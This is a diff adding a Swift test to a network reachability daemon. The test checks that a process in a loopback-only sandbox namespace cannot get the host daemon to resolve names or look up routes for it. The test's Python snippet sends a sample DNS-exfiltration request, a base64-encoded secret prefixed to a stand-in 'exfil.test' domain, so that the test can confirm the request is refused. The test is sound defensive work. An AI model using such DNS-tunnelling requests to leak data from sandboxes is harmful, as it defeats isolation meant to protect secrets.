@@ -76,4 +76,54 @@ struct OtherNamespaceTests {
         #expect(!other.ready.available && other.ready.connectivity == "local", "no default route there: \(other.ready)")
         _ = daemon
     }
+
+    /// A process with only loopback (a sandbox, `PrivateNetwork=yes`, a
+    /// per-uid kill switch) asked the host's daemon to `reach` a name made
+    /// of its secret: the daemon resolved it with the host's resolver, a
+    /// channel out through DNS. Now it answers `other_network` and no query
+    /// leaves; `get` is still answered, and its `netns` says whose it is.
+    @Test(.timeLimit(.minutes(1)))
+    func aProcessOfAnotherNetworkGetsNoNameResolvedNorRouteLookedUp() async throws {
+        let network = try await TestNetwork()
+        try await network.bringUpIPv4(defaultRoute: true)
+        let etc = try await DestinationReachabilityTests.resolverFiles(network, hosts: nil, nameServer: "10.77.0.1")
+        try await NameResolutionTests.countQueries(network)
+        let daemon = try await network.startDaemon(etc: etc)
+        defer { daemon.signal(SIGTERM) }
+        let sandbox = "\(network.host)-sandbox"
+        try await TestNetwork.sh("ip netns add \(sandbox) && ip -n \(sandbox) link set lo up")
+        defer { _ = Subprocess.runBlocking(["/usr/bin/env", "ip", "netns", "del", sandbox]) }
+        let asked = try await Subprocess.run([
+            "/usr/bin/env", "ip", "netns", "exec", sandbox, "/usr/bin/python3", "-c", #"""
+            import socket, sys
+            s = socket.socket(socket.AF_UNIX)
+            s.connect(sys.argv[1])
+            s.sendall(b'{"op":"reach","id":"x","target":"c2VjcmV0.exfil.test:443"}\n'
+                      b'{"op":"watch","id":"y","target":"198.51.100.7:443"}\n{"op":"get"}\n')
+            s.settimeout(5)
+            received = b""
+            while received.count(b"\n") < 3:
+                chunk = s.recv(65536)
+                if not chunk:
+                    break
+                received += chunk
+            sys.stdout.write(received.decode())
+            """#, network.socketPath,
+        ])
+        let lines = asked.output.split(separator: "\n").map { try? DaemonMessage.decode(Array($0.utf8)) }
+        #expect(lines.count == 3, "\(asked)")
+        let refusals = lines.compactMap { line -> String? in
+            if case .error(let code, _, let id)? = line, code == "other_network" { return id }
+            return nil
+        }
+        #expect(refusals == ["x", "y"], "\(asked.output)")
+        guard case .status(let status)?? = lines.last else {
+            Issue.record("no status for get: \(asked.output)")
+            return
+        }
+        #expect(status.network?.cookie != nil, "the status names the daemon's network")
+        try await Task.sleep(for: .milliseconds(500))
+        #expect(try await NameResolutionTests.queriesSeen(network) == 0, "no query left for the sandbox's name")
+        #expect(daemon.isRunning)
+    }
 }
